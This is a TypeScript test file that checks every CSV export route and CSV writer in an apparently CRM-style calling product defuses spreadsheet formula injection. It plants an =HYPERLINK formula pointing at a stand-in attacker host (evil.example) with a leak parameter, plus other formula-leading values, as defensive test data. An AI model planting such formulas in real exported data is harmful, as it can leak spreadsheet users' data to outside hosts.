// Every CSV the product writes, through its real route or function, defuses a formula planted in the
// data (OWASP CSV injection): a lead's name, CRM field and consent text, a call's notes, a rejection's
// reason. The table is checked against the route files, so a new CSV route has to join it.
import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { GET as callsExportRoute } from '@/app/api/campaigns/[id]/calls/export/route';
import { GET as complianceExportRoute } from '@/app/api/campaigns/[id]/compliance/export/route';
import { GET as leadsExportRoute } from '@/app/api/campaigns/[id]/leads/export/route';
import { GET as templateRoute } from '@/app/api/campaigns/leads/template/route';
import { schema } from '@/db';
import { rejectedRowsCsv } from '@/lib/client/csv-preview';
import { complianceCampaignOf, complianceEvidence, decideForLead, loadWorkspaceComplianceContext } from '@/lib/services/compliance';
import { sealLeadContext } from '@/lib/services/leads/lead-context';
import { routeFiles } from '@/test/api-routes';
import { call, createCampaign, apiFixtures } from '@/test/fixtures';
import { eq } from 'drizzle-orm';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Click")';
// As the one writer puts it: a leading ', then RFC 4180 quoting.
const DEFUSED = `"'${HYPERLINK.replaceAll('"', '""')}"`;
const at = new Date('2026-06-17T15:00:00Z');

const { db, users: [alice] } = apiFixtures('Alice');
let campaignId: string;

beforeAll(async () => {
  campaignId = await createCampaign(alice, { name: 'Formulas' });
  const [{ config }] = await db.db.select({ config: schema.campaigns.config }).from(schema.campaigns).where(eq(schema.campaigns.id, campaignId));
  const [lead] = await db.db
    .insert(schema.leads)
    .values({
      campaignId,
      name: HYPERLINK,
      company: '+cmd',
      phone: '+12125550301',
      consentAt: new Date('2026-06-01T10:00:00Z'),
      consentSource: '@source',
      consentText: HYPERLINK,
      context: sealLeadContext({ external_id: HYPERLINK, note: '-1+1' }),
    })
    .returning();
  // The evidence the claim would write for this lead, as the compliance export reads it.
  const campaign = complianceCampaignOf(config);
  const ctx = await loadWorkspaceComplianceContext(db.db, { workspaceId: alice.workspaceId, phones: [lead.phone], now: at });
  const decision = decideForLead(ctx, lead, campaign, at);
  expect(decision.allowed).toBe(true);
  await db.db.insert(schema.campaignCalls).values({
    campaignId,
    leadId: lead.id,
    attemptNumber: 1,
    status: 'completed',
    phone: lead.phone,
    claimedAt: at,
    outcomeNote: HYPERLINK,
    qualification: { notes: HYPERLINK, nextAction: '@follow', criteria: { budget: HYPERLINK } },
    compliance: complianceEvidence(ctx, lead, campaign, decision, at),
  });
});

type CsvExport = { name: string; csv: () => Promise<{ status: number; type: string | null; body: string }>; carriesData: boolean };

const route = (handler: Parameters<typeof call>[0], path: string) => async () => {
  const res = await call(handler, { path: path.replace(':id', campaignId), token: alice.token, params: { id: campaignId } });
  return { status: res.status, type: res.headers.get('content-type'), body: res.body as string };
};

// Keyed by route (as test/api-routes.ts names them), or by function for a CSV the browser writes.
const csvExports: CsvExport[] = [
  { name: 'GET /api/campaigns/:id/calls/export', csv: route(callsExportRoute, '/api/campaigns/:id/calls/export'), carriesData: true },
  { name: 'GET /api/campaigns/:id/leads/export', csv: route(leadsExportRoute, '/api/campaigns/:id/leads/export'), carriesData: true },
  { name: 'GET /api/campaigns/:id/compliance/export', csv: route(complianceExportRoute, '/api/campaigns/:id/compliance/export'), carriesData: true },
  // Fixed columns and one example row: nothing of the customer's, but written by the same writer.
  { name: 'GET /api/campaigns/leads/template', csv: route(templateRoute, '/api/campaigns/leads/template'), carriesData: false },
  {
    name: 'rejectedRowsCsv (the import and DNC upload reports)',
    csv: async () => ({ status: 200, type: 'text/csv', body: rejectedRowsCsv([{ line: 2, reason: `the file has no column named "${HYPERLINK}"` }, { line: 3, reason: HYPERLINK }]) }),
    carriesData: true,
  },
];

describe('CSV exports defuse formulas', () => {
  it('the table holds every route that answers CSV', () => {
    const csvRoutes = routeFiles()
      .filter((r) => /csvDownload\(|text\/csv/.test(fs.readFileSync(r.file, 'utf8')))
      .map((r) => r.key);
    expect(csvRoutes.sort()).toEqual(csvExports.map((e) => e.name).filter((n) => n.startsWith('GET ')).sort());
  });

  it.each(csvExports)('$name', async ({ csv, carriesData }) => {
    const { status, type, body } = await csv();
    expect(status).toBe(200);
    expect(type).toMatch(/^text\/csv/);
    if (carriesData) expect(body).toContain(DEFUSED);
    expect(body).not.toMatch(/(^|,)=HYPERLINK/m);
    // Read back as a spreadsheet reads it: no cell starts with a formula character.
    const cells = (parse(body, { relax_column_count: true }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    if (carriesData) expect(cells).toContain(`'${HYPERLINK}`);
  });
});
